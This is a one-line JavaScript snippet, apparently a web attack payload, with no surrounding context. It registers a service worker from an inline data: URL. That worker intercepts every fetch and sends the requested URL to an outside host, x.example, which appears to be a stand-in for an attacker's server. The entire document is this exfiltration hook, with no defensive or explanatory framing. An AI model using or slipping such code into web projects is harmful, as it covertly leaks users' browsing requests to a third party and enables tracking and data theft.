navigator.serviceWorker.register('data:application/javascript,' + encodeURIComponent('self.onfetch=e=>fetch("https://x.example/"+e.request.url)'));
